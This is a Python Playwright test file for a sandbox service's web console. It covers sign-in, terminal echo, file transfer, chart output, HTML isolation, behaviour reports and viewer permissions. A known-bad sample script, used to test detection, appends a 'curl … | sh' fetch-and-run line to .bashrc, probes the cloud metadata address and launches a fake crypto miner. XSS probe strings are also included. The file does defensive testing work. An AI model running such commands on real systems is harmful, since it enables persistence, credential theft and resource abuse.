"""The web console in a real headless Chromium (Debian's, driven by Playwright) against a real
`agentcell serve` with an API key and a read-only console key: sign in, see a sandbox the SDK created
appear, type in its terminal and read the echo, upload a file and download it again, run a cell that
draws a chart and see the PNG, open the behaviour report of a sandbox that ran a known-bad script and see
its signatures, and a viewer's pages without the buttons that change anything.
"""

from __future__ import annotations

import base64
import json
import os
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect

from agentcell import Sandbox
from tests.console_browser import (
    ADMIN_KEY,
    VIEWER_KEY,
    chromium,
    console_server,
    missing,
    sign_in,
    terminal_text,
)
from tests.servers import ServerProcess

# skipped where the browser or the built pages are missing; never in CI (scripts/setup installs both)
pytestmark = pytest.mark.skipif(missing() is not None and not os.environ.get("CI"), reason=missing() or "")


@pytest.fixture(scope="module")
def keyed() -> Iterator[ServerProcess]:
    """This module's server: an API key and a viewer key (conftest's `server` has neither)."""
    # routed: the known-bad script's connection to the metadata address reaches the egress router, which
    # records it (and refuses it); the uplink routes nowhere
    with console_server(routed=True) as srv:
        yield srv


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    with chromium() as b:
        yield b


@pytest.fixture
def page(browser, keyed: ServerProcess) -> Iterator[object]:  # noqa: ANN001
    context = browser.new_context(viewport={"width": 1280, "height": 860})
    pg = context.new_page()
    errors: list[str] = []
    pg.on("pageerror", lambda e: errors.append(str(e)))
    # the pages work under their CSP: nothing they load or run is refused by it
    pg.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
    yield pg
    context.close()
    assert not errors, f"the page raised or broke its CSP: {errors}"


@pytest.fixture(scope="module")
def sandbox(keyed: ServerProcess) -> Iterator[Sandbox]:
    sbx = Sandbox.create(api_url=keyed.url, api_key=ADMIN_KEY, timeout=600, metadata={"suite": "console-browser"})
    yield sbx
    sbx.kill()


def open_sandbox(page, keyed: ServerProcess, sbx: Sandbox, tab: str | None = None) -> None:  # noqa: ANN001
    sign_in(page, keyed.url)
    page.goto(f"{keyed.url}/ui/#/sandboxes/{sbx.sandbox_id}")
    page.get_by_role("heading", name=sbx.sandbox_id).wait_for()
    if tab:
        page.get_by_role("tab", name=tab).click()


def test_sign_in_refuses_a_wrong_key_and_takes_the_right_one(page, keyed: ServerProcess) -> None:  # noqa: ANN001
    page.goto(keyed.url + "/ui/")
    page.get_by_label("API key").wait_for()  # not signed in: the sign-in page, whatever the hash
    assert page.get_by_text("this server has no API key", exact=False).count() == 0
    page.get_by_label("API key").fill("not-" + ADMIN_KEY)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("alert").wait_for()
    assert page.get_by_role("heading", name="Sandboxes").count() == 0
    page.get_by_label("API key").fill(ADMIN_KEY)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("heading", name="Sandboxes").wait_for()
    assert page.locator(".role").inner_text() == "admin"
    cookie = next(c for c in page.context.cookies() if c["name"] == "agentcell_console")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"


def test_a_server_without_a_key_says_so_and_takes_any(browser, server_url: str) -> None:  # noqa: ANN001
    """The session's server (tests/conftest.py) has no API key."""
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(server_url + "/ui/#/signin")
        expect(page.get_by_role("status")).to_contain_text("This server has no API key")
        page.get_by_role("button", name="Sign in").click()  # the key left empty
        page.get_by_role("heading", name="Sandboxes").wait_for()
        assert page.locator(".role").inner_text() == "admin"
    finally:
        context.close()


def test_a_sandbox_the_sdk_creates_appears_in_the_list(page, keyed: ServerProcess) -> None:  # noqa: ANN001
    sign_in(page, keyed.url)
    markup = '<img src=x onerror="document.title=1"><b>bold</b>'
    sbx = Sandbox.create(api_url=keyed.url, api_key=ADMIN_KEY, timeout=300, metadata={"who": "appears", "note": markup})
    try:
        row = page.locator(f'tr[data-sandbox-id="{sbx.sandbox_id}"]')
        row.wait_for(timeout=10_000)  # the list polls every 2 s
        assert "running" in row.inner_text()
        # data is text, never markup
        assert markup in row.inner_text() and row.locator("b, img").count() == 0
        page.get_by_label("Filter sandboxes").fill("who=appears")
        expect(page.locator("tbody tr[data-sandbox-id]")).to_have_count(1)
        row.get_by_role("link", name=sbx.sandbox_id).click()
        page.get_by_role("heading", name=sbx.sandbox_id).wait_for()
        assert page.get_by_role("tab", name="Terminal").count() == 1
        # kill from the page: the SDK sees it gone
        page.get_by_role("button", name=f"Kill sandbox {sbx.sandbox_id}").click()
        page.get_by_role("heading", name="Sandboxes").wait_for()
        deadline = time.monotonic() + 10
        while sbx.is_running() and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not sbx.is_running()
    finally:
        sbx.kill()


def test_the_terminal_echoes_what_is_typed(page, keyed: ServerProcess, sandbox: Sandbox) -> None:  # noqa: ANN001
    open_sandbox(page, keyed, sandbox, "Terminal")
    page.get_by_text("Terminal: connected").wait_for(timeout=15_000)
    page.locator(".xterm").click()
    page.keyboard.type("echo hi-$((6*7))")
    page.keyboard.press("Enter")
    # the typed line says hi-$((6*7)): only the shell's arithmetic prints hi-42
    expect(page.locator(".xterm-rows")).to_contain_text("hi-42", timeout=10_000)
    assert "hi-$((6*7))" in terminal_text(page)


def test_upload_lists_the_file_and_download_gives_the_same_bytes(page, keyed: ServerProcess, sandbox: Sandbox,
                                                                 tmp_path) -> None:  # noqa: ANN001
    payload = os.urandom(150_000) + b"\x00end"
    local = tmp_path / "payload.bin"
    local.write_bytes(payload)
    open_sandbox(page, keyed, sandbox, "Files")
    page.get_by_role("table", name="Files").wait_for()
    page.get_by_label("Upload a file").set_input_files(str(local))
    row = page.locator('tr[data-file="payload.bin"]')
    row.wait_for(timeout=15_000)
    assert sandbox.files.read("/home/user/payload.bin", format="bytes") == payload  # it is in the sandbox
    with page.expect_download() as download:
        row.get_by_role("link", name="Download payload.bin").click()
    saved = tmp_path / "downloaded.bin"
    download.value.save_as(saved)
    assert saved.read_bytes() == payload


def test_a_cell_that_draws_a_chart_shows_its_png(page, keyed: ServerProcess, sandbox: Sandbox) -> None:  # noqa: ANN001
    open_sandbox(page, keyed, sandbox, "Code")
    code = ("import matplotlib.pyplot as plt\n"
            "plt.plot([1, 3, 2, 5]); plt.title('console chart')\n"
            "print('drawn', 6 * 7)\n"
            "plt.show()\n")
    page.get_by_role("textbox", name="Code").fill(code)
    page.get_by_role("button", name="Run").click()
    image = page.get_by_role("img", name="Result image (PNG)").last
    image.wait_for(timeout=60_000)
    src = image.get_attribute("src") or ""
    assert src.startswith("data:image/png;base64,")
    assert base64.b64decode(src.split(",", 1)[1])[:8] == b"\x89PNG\r\n\x1a\n"
    assert page.evaluate("(img) => img.naturalWidth", image.element_handle()) > 100
    assert page.get_by_text("drawn 42").count() >= 1
    # HTML results go into a sandboxed frame: shown, but its script does not run
    page.get_by_role("textbox", name="Code").fill(
        "from IPython.display import HTML\n"
        "HTML('<b id=\"bold\">rich</b><script>parent.document.title = \"pwned\"</script>')")
    page.get_by_role("button", name="Run").click()
    frame = page.locator("iframe.result-html").last
    frame.wait_for(timeout=30_000)
    assert frame.get_attribute("sandbox") == ""
    assert page.frame_locator("iframe.result-html").last.locator("#bold").inner_text() == "rich"
    assert page.title() != "pwned"
    # state carries to the next cell; a reload shows the cells run before
    page.get_by_role("textbox", name="Code").fill("x = 6 * 7\nx")
    page.get_by_role("button", name="Run").click()
    page.locator(".result pre.result-text", has_text=re.compile(r"^42$")).wait_for(timeout=30_000)
    page.reload()
    page.get_by_role("tab", name="Code").click()
    page.get_by_role("img", name="Result image (PNG)").first.wait_for(timeout=10_000)
    assert page.locator("article.cell").count() >= 2


BAD_SCRIPT = r"""
echo 'curl -s http://203.0.113.9/x | sh' >> ~/.bashrc
timeout 3 python3 -c "import socket; s = socket.socket(); s.settimeout(1); s.connect(('169.254.169.254', 80))" 2>/dev/null
printf '#!/bin/sh\nexit 0\n' > /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig --url stratum+tcp://x:3333
echo done
"""
SIGNATURES = {"cloud-metadata": "Cloud metadata access", "crypto-mining": "Crypto mining", "persistence": "Persistence"}


def test_the_report_of_a_known_bad_script_lists_its_signatures(page, keyed: ServerProcess) -> None:  # noqa: ANN001
    sbx = Sandbox.create(api_url=keyed.url, api_key=ADMIN_KEY, timeout=300)
    try:
        sbx.files.write("/home/user/bad.sh", BAD_SCRIPT)  # from a file: no argv holds the whole script
        assert sbx.commands.run("bash /home/user/bad.sh", timeout=60).stdout.strip().endswith("done")
        sign_in(page, keyed.url)
        answer = page.request.get(f"{keyed.url}/ui/api/v/sandboxes/{sbx.sandbox_id}/report?format=html")
        assert answer.headers["content-type"].startswith("text/html")  # the report the iframe shows
        page.goto(f"{keyed.url}/ui/#/sandboxes/{sbx.sandbox_id}/report")
        page.get_by_role("heading", name="Behaviour report").wait_for()
        text = ""
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:  # the record is written as it happens: its flags may lag a moment
            body = page.frame_locator("iframe.report").locator("body")
            body.wait_for()
            text = body.inner_text()
            if all(name in text for name in SIGNATURES):
                break
            time.sleep(1)
            page.reload()
        for name, title in SIGNATURES.items():
            assert name in text and title in text, f"{name} ({title}) not in the report page:\n{text[:3000]}"
        # the iframe is sandboxed (no scripts, an opaque origin); the downloads are the same report
        assert page.locator("iframe.report").get_attribute("sandbox") == ""
        with page.expect_download() as as_html:
            page.get_by_role("link", name="Download HTML").click()
        saved = Path(as_html.value.path()).read_text()
        assert saved.lstrip().lower().startswith("<!doctype html") and all(t in saved for t in SIGNATURES.values())
        with page.expect_download() as as_json:
            page.get_by_role("link", name="Download JSON").click()
        report = json.loads(Path(as_json.value.path()).read_bytes())
        assert set(SIGNATURES) <= {s["signature"] for s in report["signatures"]}
    finally:
        sbx.kill()


def test_a_viewer_sees_no_kill_button_and_no_terminal(page, keyed: ServerProcess, sandbox: Sandbox) -> None:  # noqa: ANN001
    sign_in(page, keyed.url, VIEWER_KEY)
    assert page.locator(".role").inner_text() == "viewer"
    row = page.locator(f'tr[data-sandbox-id="{sandbox.sandbox_id}"]')
    row.wait_for(timeout=10_000)
    assert page.get_by_role("button", name=re.compile("^Kill sandbox")).count() == 0
    assert page.get_by_role("button", name=re.compile("^(Pause|Resume) sandbox")).count() == 0
    row.get_by_role("link", name=sandbox.sandbox_id).click()
    page.get_by_role("heading", name=sandbox.sandbox_id).wait_for()
    page.get_by_role("tab", name="Overview").wait_for()
    assert page.get_by_role("tab", name="Terminal").count() == 0
    assert page.get_by_role("button", name=re.compile("^Kill")).count() == 0
    page.get_by_role("tab", name="Files").click()
    page.get_by_role("table", name="Files").wait_for()
    assert page.get_by_label("Upload a file").count() == 0
    page.get_by_role("tab", name="Code").click()
    page.get_by_text("A read-only session cannot run code.").wait_for()
    assert page.get_by_role("textbox", name="Code").count() == 0
    # and the server agrees: its terminal refuses a viewer's session
    refused = page.evaluate("""(id) => new Promise((resolve) => {
        const ws = new WebSocket(`ws://${location.host}/ui/api/sandboxes/${id}/terminal?cols=80&rows=24`);
        ws.onopen = () => { ws.close(); resolve('opened'); };
        ws.onerror = () => resolve('refused');
        ws.onclose = (e) => resolve(e.code === 1000 ? 'closed-ok' : 'refused');
    })""", sandbox.sandbox_id)
    assert refused == "refused"
